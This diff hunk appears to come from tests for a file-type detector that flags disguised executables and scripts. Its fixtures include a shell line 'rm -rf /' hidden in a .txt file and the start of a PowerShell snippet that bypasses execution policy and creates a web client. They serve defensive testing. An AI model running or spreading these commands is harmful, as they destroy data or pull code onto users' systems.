@@ -21,6 +21,7 @@ POWERSHELL = b"Set-ExecutionPolicy Bypass\n$client = New-Object System.Net.WebCl
         ("notes.txt", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, Family.EXECUTABLE),
         ("game.zip", zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe"}), Family.EXECUTABLE),
         ("game.exe", b"just words", Family.EXECUTABLE),
+        ("numbers.iqy", b"WEB\n1\nhttp://example.org/\n", Family.SCRIPT),
         ("run.bat", b"echo hi", Family.SCRIPT),
         ("poem.txt", b"#!/bin/sh\nrm -rf /\n", Family.SCRIPT),
         ("poem.txt", POWERSHELL, Family.SCRIPT),
